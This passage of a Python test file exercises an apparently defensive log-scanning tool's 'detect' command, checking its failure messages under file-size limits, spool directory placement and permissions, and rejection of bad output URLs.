        log = self.write("b.log", attack(1) + attack(2))
        full = lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (128, 128))
        done = self.run_cli("detect", "-q", "--to", "file:" + self.path("no/out"), log, status=4, preexec_fn=full)
        self.assertIn(b"events LOST: not delivered (open: No such file or directory), and its spool below the data directory took none: File too large", done.stderr)
        self.assertNotIn(b"wait for the next run", done.stderr)
        done = self.run_cli("detect", "-q", "--to", "file:" + self.path("no/out"), log, status=1)
        self.assertIn(b"wait for the next run", done.stderr)

    def test_a_run_that_failed_does_not_say_that_nothing_was_found(self):
        args = ["-v", "--callbacks", self.write("dns.log", "other.example\n")]  # attempts without a contact lie in a file until the end
        for n in (1, 1000):  # their file is written at the end, or before
            log = self.write("b.log", "".join(attack(k) for k in range(n)))
            done = self.run_cli("detect", *args, log, status=4, preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (16, 16)))
            self.assertIn(b"temporary file: File too large", done.stderr)
        self.assertIn(b"PARTIAL: failed before the end.\n", done.stdout)
        self.assertIn(b"ended early by the failure told on standard error", done.stdout)

    def test_where_the_spool_lies(self):
        home = self.path("home")
        env = {k: v for k, v in self.env.items() if k not in ("CALTROP_DATA_DIR", "XDG_STATE_HOME")}
        env["XDG_STATE_HOME"] = home
        if os.getuid() != 0:
            self.run_cli("detect", "--to", "file:" + self.path("out"), self.log, env=env, status=0)
            self.assertTrue(os.path.isdir(home + "/caltrop/spool"))
        self.run_cli("detect", "--to", "file:" + self.path("out"), "--data-dir", self.path("a/b/c"), self.log, status=0)
        self.assertEqual(os.stat(self.path("a/b/c")).st_mode & 0o777, 0o700)
        blocked = self.write("blocked", "a file")
        self.run_cli("detect", "--to", "file:" + self.path("out"), "--data-dir", blocked + "/x", self.log, status=4)
        for url in ("nosuch:x", "https://", "http://example.org/", "syslog:"):
            done = self.run_cli("detect", "--to", url, self.log, status=2)
            self.assertIn(b"--to", done.stderr)


if __name__ == "__main__":
    cli_case.main()
